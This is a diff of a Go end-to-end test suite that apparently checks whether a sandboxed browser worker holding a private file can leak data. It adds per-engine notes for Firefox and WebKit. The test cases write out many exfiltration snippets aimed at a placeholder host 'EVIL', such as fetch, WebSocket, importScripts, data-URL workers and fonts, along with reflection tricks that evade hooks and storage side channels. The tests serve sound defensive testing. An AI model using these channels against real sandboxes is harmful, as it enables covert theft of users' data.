@@ -3,6 +3,8 @@ package e2e
 import (
 	"strings"
 	"testing"
+
+	"privatepca/app/e2e/drive"
 )
 
 // Scripts that several ways share.
@@ -15,6 +17,18 @@ const (
 	// A worker whose script asks for EVIL.
 	asksEvil = `"fetch('EVIL', { mode: 'no-cors' })"`
 )
+
+// Why an engine has no such way.
+const (
+	noBuckets  = "Chromium alone has storage buckets"
+	noOldFiles = "Chromium alone has the old file system"
+	noPrivate  = "WebKitGTK gives a worker no navigator.storage"
+	noFont     = "its workers ask for no font of another origin"
+)
+
+func inOthers(why string) map[drive.Engine]string {
+	return map[drive.Engine]string{drive.Firefox: why, drive.WebKit: why}
+}
 
 // waysOutOfWorker are tried in a worker that has been handed a file.
 var waysOutOfWorker = []wayOut{
@@ -36,11 +50,11 @@ var waysOutOfWorker = []wayOut{
 	{alone: true, name: "synchronous request of its own origin", script: `const x = new XMLHttpRequest(); x.open('POST', 'OWN', false); x.send('leak')`},
 	{name: "XMLHttpRequest by Reflect", script: `const x = Reflect.construct(self['XMLHttp' + 'Request'], []); x.open('GET', 'EVIL'); x.send(); await new Promise(r => { x.onloadend = r; })`},
 	{name: "WebSocket", script: `new WebSocket('ws://HOST/'); await new Promise(r => setTimeout(r, 800))`},
-	{name: "WebSocket of its own origin", script: `new WebSocket('OWN'.replace('http', 'ws')); await new Promise(r => setTimeout(r, 800))`, bare: "a proxy is told no address of it"},
-	{name: "WebSocketStream", script: `await new WebSocketStream('ws://HOST/').opened`},
+	{name: "WebSocket of its own origin", script: `new WebSocket('OWN'.replace('http', 'ws')); await new Promise(r => setTimeout(r, 800))`, bare: "a proxy is told no address of it", lacks: map[drive.Engine]string{drive.Firefox: "a proxy is told no address of it"}},
+	{name: "WebSocketStream", script: `await new WebSocketStream('ws://HOST/').opened`, lacks: inOthers("Chromium alone has the interface")},
 	{name: "EventSource", script: `new EventSource('EVIL'); await new Promise(r => setTimeout(r, 800))`},
 	{name: "EventSource of its own origin", script: `new EventSource('OWN'); await new Promise(r => setTimeout(r, 800))`},
-	{name: "WebTransport", script: `await new WebTransport('https://127.0.0.1:UDP/').ready`, bare: "the tests' browser runs without QUIC"},
+	{name: "WebTransport", script: `await new WebTransport('https://127.0.0.1:UDP/').ready`, bare: "the tests' browser runs without QUIC", lacks: map[drive.Engine]string{drive.Firefox: "the tests' browser, which has a proxy, rejects it", drive.WebKit: "it has no such interface"}},
 	{alone: true, name: "script of elsewhere", script: `importScripts('EVIL.js')`},
 	{alone: true, name: "script of its own origin", script: `importScripts('OWN.js')`},
 	{alone: true, name: "script of a data address", script: `importScripts("data:text/javascript,fetch('EVIL',{mode:'no-cors'})"); await new Promise(r => setTimeout(r, 300))`},
@@ -53,9 +67,9 @@ var waysOutOfWorker = []wayOut{
 	{name: "worker out of memory", script: `new Worker(URL.createObjectURL(new Blob([` + asksEvil + `]))); await new Promise(r => setTimeout(r, 800))`},
 	{name: "worker of a data address", script: `new Worker("data:text/javascript,fetch('EVIL',{mode:'no-cors'})"); await new Promise(r => setTimeout(r, 800))`},
 	{name: "worker that is a module", script: `new Worker(URL.createObjectURL(new Blob([` + asksEvil + `], { type: 'text/javascript' })), { type: 'module' }); await new Promise(r => setTimeout(r, 800))`},
-	{name: "font", script: `await new FontFace('x', 'url(EVIL)').load()`},
-	{name: "font of its own origin", script: `await new FontFace('x', 'url(OWN)').load()`},
-	{name: "font that is asked for by a set", script: `fonts.add(new FontFace('y', 'url(EVIL)')); await fonts.load('12px y')`},
+	{name: "font", script: `await new FontFace('x', 'url(EVIL)').load()`, lacks: map[drive.Engine]string{drive.WebKit: noFont}},
+	{name: "font of its own origin", script: `await new FontFace('x', 'url(OWN)').load()`, pastPolicy: map[drive.Engine]string{drive.WebKit: "it asks no policy about a font of a worker"}},
+	{name: "font that is asked for by a set", script: `fonts.add(new FontFace('y', 'url(EVIL)')); await fonts.load('12px y')`, lacks: map[drive.Engine]string{drive.WebKit: noFont}},
 	{name: "program that compiles as it comes", script: `await WebAssembly.compileStreaming(fetch('EVIL'))`},
 	{name: "image", script: `await createImageBitmap(await (await fetch('EVIL', { mode: 'no-cors' })).blob())`},
 	{name: "text that is run after a time", script: `setTimeout("fetch('EVIL', { mode: 'no-cors' })"); await new Promise(r => setTimeout(r, 500))`},
@@ -69,21 +83,23 @@ var waysOutOfWorker = []wayOut{
 	{name: "cache of a prototype's getter", script: `const get = Reflect.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'caches').get; await get.call(self).open('TOKEN')`, look: cacheLook},
 	{name: "cache of an interface's method", script: `await CacheStorage.prototype.open.call(caches, 'TOKEN')`, look: cacheLook},
 	{name: "cache of every scope", script: `for (let o = self; o; o = Reflect.getPrototypeOf(o)) { const d = Reflect.getOwnPropertyDescriptor(o, 'caches'); if (d) await (d.value ?? d.get.call(self)).open('TOKEN'); }`, look: cacheLook},
-	{name: "cache of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); await (await b.caches.open('leak')).put('/leak', new Response('leak'))`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`},
-	{name: "file of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); await (await b.getDirectory()).getFileHandle('leak', { create: true })`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`},
-	{name: "database of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); b.indexedDB.open('leak')`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`},
-	{name: "bucket of a prototype", script: `const get = Reflect.getOwnPropertyDescriptor(Reflect.getPrototypeOf(navigator), 'storageBuckets').get; await get.call(navigator).open('TOKEN'.toLowerCase())`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`},
-	{name: "private file", script: `const f = await (await navigator.storage.getDirectory()).getFileHandle('TOKEN', { create: true }); const a = await f.createSyncAccessHandle(); a.write(new Uint8Array(9)); a.close()`, look: fileLook},
-	{name: "private file, written as a stream", script: `const f = await (await navigator.storage.getDirectory()).getFileHandle('TOKEN', { create: true }); const w = await f.createWritable(); await w.write('leak'); await w.close()`, look: fileLook},
-	{name: "private file of an interface's method", script: `await (await StorageManager.prototype.getDirectory.call(navigator.storage)).getFileHandle('TOKEN', { create: true })`, look: fileLook},
-	{name: "private file of a prototype's getter", script: `const s = Reflect.getOwnPropertyDescriptor(WorkerNavigator.prototype, 'storage').get.call(navigator); await (await s.getDirectory()).getFileHandle('TOKEN', { create: true })`, look: fileLook},
+	{name: "cache of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); await (await b.caches.open('leak')).put('/leak', new Response('leak'))`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
+	{name: "file of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); await (await b.getDirectory()).getFileHandle('leak', { create: true })`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
+	{name: "database of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); b.indexedDB.open('leak')`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
+	{name: "bucket of a prototype", script: `const get = Reflect.getOwnPropertyDescriptor(Reflect.getPrototypeOf(navigator), 'storageBuckets').get; await get.call(navigator).open('TOKEN'.toLowerCase())`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
+	{name: "private file", script: `const f = await (await navigator.storage.getDirectory()).getFileHandle('TOKEN', { create: true }); const a = await f.createSyncAccessHandle(); a.write(new Uint8Array(9)); a.close()`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
+	{name: "private file, written as a stream", script: `const f = await (await navigator.storage.getDirectory()).getFileHandle('TOKEN', { create: true }); const w = await f.createWritable(); await w.write('leak'); await w.close()`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
+	{name: "private file of an interface's method", script: `await (await StorageManager.prototype.getDirectory.call(navigator.storage)).getFileHandle('TOKEN', { create: true })`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
+	{name: "private file of a prototype's getter", script: `const s = Reflect.getOwnPropertyDescriptor(WorkerNavigator.prototype, 'storage').get.call(navigator); await (await s.getDirectory()).getFileHandle('TOKEN', { create: true })`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
 	{
 		name: "old file system", script: `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', { create: true }, ok, no), no))`,
-		look: `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', {}, ok, no), no)); return true`,
+		look:  `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', {}, ok, no), no)); return true`,
+		lacks: inOthers(noOldFiles),
 	},
 	{
 		alone: true, name: "old file system, at once", script: `webkitRequestFileSystemSync(0, 9).root.getFile('TOKEN', { create: true })`,
-		look: `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', {}, ok, no), no)); return true`,
+		look:  `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', {}, ok, no), no)); return true`,
+		lacks: inOthers(noOldFiles),
 	},
 	{name: "database", script: replaced(openBase, `indexedDB.open('TOKEN')`), look: baseLook},
 	{name: "database of the interface's method", script: replaced(openBase, `IDBFactory.prototype.open.call(indexedDB, 'TOKEN')`), look: baseLook},
@@ -102,11 +118,12 @@ var waysOutOfWorker = []wayOut{
 		const t = db.transaction('meta', 'readwrite'); t.objectStore('meta').put(new Blob(['leak']), 'TOKEN'); await new Promise((ok, no) => { t.oncomplete = ok; t.onerror = t.onabort = no; }); db.close()`,
 		look: `const db = await new Promise((ok, no) => { const r = indexedDB.open('privatepca-ledger'); r.onsuccess = () => ok(r.result); r.onerror = no; });
 		try { return await new Promise((ok, no) => { const r = db.transaction('meta').objectStore('meta').getKey('TOKEN'); r.onsuccess = () => ok(!!r.result); r.onerror = no; }); } finally { db.close(); }`,
-		bare: "another way may have given the ledger a later version",
+		bare:  "another way may have given the ledger a later version",
+		lacks: inOthers("another way may have given the ledger a later version"),
 	},
 
 	// What others of this origin hear.
-	{name: "broadcast", script: `new BroadcastChannel('TOKEN').postMessage('leak'); await new Promise(r => setTimeout(r, 300))`, look: `return (window.heard ?? []).includes('TOKEN')`, bare: "nobody listens to that name"},
+	{name: "broadcast", script: `new BroadcastChannel('TOKEN').postMessage('leak'); await new Promise(r => setTimeout(r, 300))`, look: `return (window.heard ?? []).includes('TOKEN')`, bare: "nobody listens to that name", lacks: inOthers("nobody listens to that name")},
 	{name: "lock", script: `navigator.locks.request('TOKEN', () => new Promise(() => {})); await new Promise(r => setTimeout(r, 200))`, look: lockLook},
 	{name: "lock of an interface's method", script: `LockManager.prototype.request.call(navigator.locks, 'TOKEN', () => new Promise(() => {})); await new Promise(r => setTimeout(r, 200))`, look: lockLook},
 	{name: "lock of the object's prototype", script: `Reflect.getPrototypeOf(navigator.locks).request.call(navigator.locks, 'TOKEN', () => new Promise(() => {})); await new Promise(r => setTimeout(r, 200))`, look: lockLook},
